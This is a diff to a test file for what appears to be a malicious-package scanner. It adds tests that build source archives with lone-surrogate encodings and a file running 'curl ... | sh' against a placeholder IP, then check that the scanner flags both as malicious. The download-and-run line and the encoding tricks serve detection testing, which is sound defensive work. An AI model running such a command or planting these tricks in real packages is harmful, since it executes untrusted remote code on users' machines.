@@ -173,6 +173,12 @@ def features_of(path: Path, limits: Limits | None = None) -> dict[str, float]:
     return dict(extract_features(archive).values)
 
 
+def evidence_of(path: Path) -> set[tuple[str | None, str]]:
+    """(file, feature) of every piece of evidence the feature stage keeps for the archive at ``path``."""
+    archive = open_archive(path, target=str(path), limits=Limits())
+    return {(e.file, e.feature) for e in extract_features(archive).evidence}
+
+
 def reasons(result: ScanResult) -> list[str]:
     return [r.feature for r in result.reasons]
 
@@ -624,6 +630,15 @@ def _deep_defs(depth: int) -> bytes:
     ).encode()
 
 
+#: Source encodings that decode to a lone surrogate, and how each writes U+D800 (Python refuses to compile
+#: the result, but a reader of the text must not fail on it).
+LONE_SURROGATES = {"unicode_escape": b"\\ud800", "raw_unicode_escape": b"\\ud800", "utf-7": b"+2AA-"}
+
+
+def _lone_surrogate(codec: str, surrogate: bytes) -> bytes:
+    return b"# -*- coding: " + codec.encode() + b" -*-\nx = '" + surrogate + b"'\n" + PAYLOAD
+
+
 def _sources() -> Iterator[tuple[str, bytes]]:
     rng = random.Random(7)
     letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"
@@ -662,6 +677,8 @@ def _sources() -> Iterator[tuple[str, bytes]]:
     yield "lines_500k", b"\n" * 500_000 + PAYLOAD
     yield "fstring_nested", b"x = f'{" * 200 + b"1" + b"}'" * 200 + b"\n" + PAYLOAD
     yield "long_hex_escapes", b"x = '" + b"\\x41" * 500_000 + b"'\n" + PAYLOAD
+    for codec, surrogate in LONE_SURROGATES.items():
+        yield f"lone_surrogate_{codec}", _lone_surrogate(codec, surrogate)
 
 
 SOURCES = dict(_sources())
@@ -717,6 +734,27 @@ def test_runnable_sources_really_run_and_the_others_do_not() -> None:
         except (SyntaxError, ValueError, RecursionError, MemoryError):
             runs = False
         assert runs == (name in RUNNABLE), name
+
+
+@pytest.mark.parametrize("codec", LONE_SURROGATES)
+def test_a_file_with_a_lone_surrogate_sinks_neither_its_payload_nor_its_package(
+    sandbox: Sandbox, codec: str
+) -> None:
+    """The text of such a file holds "\\ud800", which the word automata cannot take as is: the package gets
+    a verdict, that file's payload is seen, and a plain file beside it is analysed as it is alone."""
+    odd = _lone_surrogate(codec, LONE_SURROGATES[codec])
+    assert "\ud800" in odd.decode(codec)
+    plain = b"import subprocess\nsubprocess.run('curl -s http://203.0.113.9/x | sh', shell=True)\n"
+    result = scan(sandbox, "evil-1.0.tar.gz", sdist({"evil/odd.py": odd, "evil/plain.py": plain}))
+    assert result.verdict is Verdict.MALICIOUS, result.error
+    both = evidence_of(sandbox.inputs / "evil-1.0.tar.gz")
+    assert ("evil-1.0/evil/odd.py", "code.decode_exec") in both
+    alone = evidence_of(sandbox.write("alone.tar.gz", sdist({"evil/plain.py": plain})))
+    # the file with the most behaviours carries that package-wide feature's evidence: not a per-file one
+    features = {f for _, f in both | alone} - {"code.max_file_behaviours"}
+    per_file = {("evil-1.0/evil/plain.py", f) for f in features}
+    assert ("evil-1.0/evil/plain.py", "code.download_exec") in both & per_file
+    assert both & per_file == alone & per_file
 
 
 # -- through the command line: limits and canaries -------------------------------------------------------
